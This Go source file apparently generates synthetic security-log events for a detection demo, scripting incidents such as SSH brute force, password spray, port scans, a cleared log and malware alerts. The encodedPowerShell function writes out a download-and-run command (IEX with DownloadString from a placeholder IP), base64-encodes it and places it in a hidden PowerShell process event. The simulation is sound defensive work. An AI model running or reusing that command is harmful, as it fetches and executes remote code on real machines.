package demo

import (
	"encoding/base64"
	"slices"
	"time"
	"unicode/utf16"
)

// scene is an attack that is played at a time after the start, and perhaps again and again.
type scene struct {
	at    time.Duration
	every time.Duration // 0: once
	play  func(w *world, now time.Time) batch
}

func insert(script []scene, s scene) []scene {
	i, _ := slices.BinarySearchFunc(script, s, func(a, b scene) int { return int(a.at - b.at) })
	return slices.Insert(script, i, s)
}

// scenes is an organization's script: three different incidents within the first minute between the two of them, then
// one new one in a few minutes, while the scan and the guessing go on and raise their counts.
func scenes(org string) []scene {
	if org == "harbour" {
		return []scene{
			{5 * time.Second, 0, bruteForce},
			{3 * time.Minute, 0, clearedLog},
			{6 * time.Minute, 0, encodedPowerShell},
			{12 * time.Minute, 30 * time.Minute, spray},
		}
	}
	return []scene{
		{15 * time.Second, 40 * time.Second, portScan},
		{9 * time.Minute, 0, uncleanedMalware},
		{15 * time.Minute, 0, strangeAdmin},
	}
}

// bruteForce guesses root's password from one address until it is right.
func bruteForce(w *world, now time.Time) (b batch) {
	host, from := w.org.linux[0], "203.0.113.7"
	for i := range 14 {
		b.tcp = append(b.tcp, w.sshFailure(now.Add(time.Duration(i-15)*time.Second/2), host, "root", from, false))
	}
	b.tcp = append(b.tcp, w.sshSuccess(now, host, "root", from))
	return b
}

// portScan knocks at many ports of one machine; the firewall denies all of it.
func portScan(w *world, now time.Time) (b batch) {
	for i := range 26 {
		b.udp = append(b.udp, w.gateDeny(now, "198.51.100.23", "10.0.0.12", 20+i*37))
	}
	return b
}

// clearedLog empties the security log of a file server.
func clearedLog(w *world, now time.Time) batch {
	return batch{http: [][]byte{w.logCleared(now, w.org.windows[1], "svc-backup")}}
}

// encodedPowerShell downloads and runs a script from an encoded command line.
func encodedPowerShell(w *world, now time.Time) batch {
	script := `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.66/stage2.ps1')`
	var utf []byte
	for _, c := range utf16.Encode([]rune(script)) {
		utf = append(utf, byte(c), byte(c>>8))
	}
	line := "powershell.exe -nop -w hidden -enc " + base64.StdEncoding.EncodeToString(utf)
	return batch{http: [][]byte{w.process(now, w.org.windows[2], "dara", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, line, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`)}}
}

// spray tries one password on many accounts.
func spray(w *world, now time.Time) (b batch) {
	for _, user := range []string{"ada", "bjorn", "chidi", "dara", "emeka", "farah", "goran", "hana", "ines", "jonas", "kofi", "lena"} {
		b.http = append(b.http, w.logonFailure(now, w.org.windows[0], user, "203.0.113.44"))
	}
	return b
}

// uncleanedMalware is found and never cleaned.
func uncleanedMalware(w *world, now time.Time) batch {
	return batch{udp: [][]byte{w.virus(now, "10.0.0.77", "monitored")}}
}

// strangeAdmin signs in to the firewall from the internet.
func strangeAdmin(w *world, now time.Time) batch {
	return batch{udp: [][]byte{w.adminLogin(now, "203.0.113.90")}}
}
